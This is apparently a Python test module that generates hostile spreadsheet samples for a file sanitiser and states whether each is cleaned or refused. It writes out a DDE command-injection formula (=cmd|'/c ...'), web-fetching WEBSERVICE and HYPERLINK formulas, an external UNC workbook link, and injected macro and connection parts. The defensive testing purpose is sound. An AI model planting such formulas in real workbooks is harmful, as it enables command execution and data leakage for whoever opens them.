"""Spreadsheets: outside data, hidden people, formulas that fetch, and broken workbooks."""

import io
import zipfile
from collections.abc import Callable, Iterator

import openpyxl
from openpyxl.comments import Comment
from openpyxl.worksheet.worksheet import Worksheet

from wellknit.vault.tests.hostile.sample import CANARY, HIDDEN, Check, Sample, cleaned, refused

CELL = "ឈ្មោះ = 1"


def workbook(change: Callable[[Worksheet], object] | None = None) -> bytes:
    book = openpyxl.Workbook()
    book.properties.creator = book.properties.lastModifiedBy = CANARY
    sheet = book.active
    sheet["A1"], sheet["B1"], sheet["B2"] = CELL, 42, "=B1*2"
    if change:
        change(sheet)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def changed(data: bytes, **parts: bytes | None) -> bytes:
    """The workbook with parts added, replaced or (None) taken away; / is written as __."""
    news = {name.replace("__", "/"): part for name, part in parts.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in news:
                new.writestr(name, old.read(name))
        for name, part in news.items():
            if part is not None:
                new.writestr(name, part)
    return out.getvalue()


def shows(**cells: object) -> Check:
    def check(data: bytes) -> bool:
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        return sheet["A1"].value == CELL and all(
            sheet[place].value == value for place, value in cells.items()
        )

    return check


def samples() -> Iterator[Sample]:
    plain = workbook()
    properties, fetch = "author and document properties", "formulas that fetch or link (their results stay)"
    yield cleaned("an honest xlsx", "t.xlsx", plain, shows(B1=42, B2="=B1*2"), properties)
    noted = workbook(lambda sheet: setattr(sheet["A1"], "comment", Comment("A kept comment", CANARY)))
    yield cleaned("an xlsx with a comment", "t.xlsx", noted, shows(B1=42))
    linked = workbook(lambda sheet: setattr(sheet["B1"], "hyperlink", f"https://example.org/{CANARY}"))
    yield cleaned("an xlsx with a link", "t.xlsx", linked, shows(), "links to the web")
    for formula in (
        f'=WEBSERVICE("https://example.org/{CANARY}")',
        f"=cmd|'/c {CANARY}'!A0",
        f'=HYPERLINK("https://example.org/{CANARY}","press")',
        f"='\\\\server\\[{CANARY}.xlsx]Sheet1'!A1",
    ):
        data = workbook(lambda sheet, formula=formula: sheet.__setitem__("C1", formula))  # type: ignore[misc]
        yield cleaned(f"an xlsx with the formula {formula[:9]}", "t.xlsx", data, shows(C1=None), fetch)
    yield refused("an xlsx with a macro", "t.xlsx", changed(plain, **{"xl/vbaProject.bin": b"x"}), "macro")
    yield refused(
        "an xlsx with an old macro sheet",
        "t.xlsx",
        changed(plain, **{"xl/macrosheets/a.xml": b"<a/>"}),
        "macro",
    )
    yield refused(
        "an xlsx with an outside workbook",
        "t.xlsx",
        changed(plain, **{"xl/externalLinks/a.xml": b"<a/>"}),
        "outside",
    )
    yield refused(
        "an xlsx with a data connection",
        "t.xlsx",
        changed(plain, **{"xl/connections.xml": b"<a/>"}),
        "outside",
    )
    printer = changed(plain, **{"xl/printerSettings/p.bin": HIDDEN, "xl/persons/person.xml": HIDDEN})
    yield cleaned("an xlsx with a printer and persons", "t.xlsx", printer, shows(B1=42))
    yield refused(
        "an xlsx without a workbook", "t.xlsx", changed(plain, **{"xl/workbook.xml": None}), "does not match"
    )
    yield refused(
        "an xlsx without types", "t.xlsx", changed(plain, **{"[Content_Types].xml": None}), "does not match"
    )
    sheet = "xl/worksheets/sheet1.xml"
    yield refused(
        "an xlsx with a broken sheet", "t.xlsx", changed(plain, **{sheet: b"<worksheet><"}), "damaged"
    )
    yield refused("an xlsx with half a sheet", "t.xlsx", plain[:-400])
    yield refused("an xlsx with noise inside", "t.xlsx", plain[:60] + b"\xff" * 900 + plain[960:])
    yield refused("an xlsm", "t.xlsm", plain, "macros")
    yield refused("an xls", "t.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "PDF")
